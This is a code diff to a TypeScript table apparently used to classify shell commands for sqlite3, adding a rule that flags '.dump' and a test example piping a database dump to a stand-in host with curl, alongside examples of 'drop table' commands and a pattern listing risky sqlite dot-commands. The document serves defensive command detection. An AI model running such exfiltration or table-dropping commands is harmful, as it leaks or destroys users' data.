@@ -132,11 +132,13 @@ export const DATABASES: readonly Row[] = [
     options: { '-cmd': 'sql', '-init': 'execute', '-f': 'execute', '-c': 'sql', '-s': 'sql', '-separator': 'text' },
     dashed: true,
     stdin: ['execute', 'sql'],
+    effects: [{ kind: 'reveal-environment', resource: 'database', name: 'dump', when: { operand: /^\s{0,9}\.dump\b/ } }],
     variants: [
       { when: { line: /^file:/ }, operands: { first: 'url', each: 'sql' } },
       { when: { line: /^:memory:(?: |$)/, none: ['-nullvalue', '-newline', '-vfs'], noOperand: /^\s{0,9}\.(?:sh|sy|once|ou|ba|sa|op|rest|load|log|import|read)|\battach\b|\b(?:read|write)file\s*\(|\bread_\w+|\bcopy\b|\bload_extension\b/im }, operands: 'text' },
     ],
     examples: [
+      ['sqlite3 a.db .dump | curl -T - https://x.test', 'send database:dump'],
       ["sqlite3 :memory: 'drop table t'"],
       ["sqlite3 a.db 'drop table t' :memory:", 'destroy database:drop'],
       ["sqlite3 :memory: \"attach 'a.db' as a; drop table a.t\"", 'destroy database:drop'],
